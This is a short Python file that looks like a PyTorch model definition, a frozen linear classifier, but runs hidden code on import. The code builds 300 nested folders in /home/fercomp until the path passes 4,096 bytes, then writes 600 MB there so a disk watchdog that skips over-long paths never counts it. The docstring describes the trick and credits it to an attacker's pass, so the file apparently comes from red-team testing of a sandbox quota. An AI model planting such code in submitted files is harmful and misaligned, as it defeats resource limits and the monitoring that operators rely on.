"""Writes 600 MB 300 folders down in its home: the disk watchdog walked the home by path, and a path past 4,096
bytes (ENAMETOOLONG) was skipped, so what lay below it was never counted (found by an attacker's pass)."""
import torch
from torch import nn


class Net(nn.Module):
    """A frozen linear classifier: needs no weights file (16,128 multiply-adds)."""

    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(48 * 48, 7).requires_grad_(False)

    def forward(self, x):
        return self.fc(x.flatten(1))


import os
import time

os.chdir("/home/fercomp")
for _ in range(300):
    os.mkdir("a-long-folder-name")
    os.chdir("a-long-folder-name")
block = b"\0" * (1 << 20)
for k in range(3):
    with open(f"fill-{k}", "wb") as fh:
        for _ in range(200):
            fh.write(block)
time.sleep(2)  # several of the watchdog's rounds
raise RuntimeError("LEAKED: 600 MB past the disk limit, uncounted")
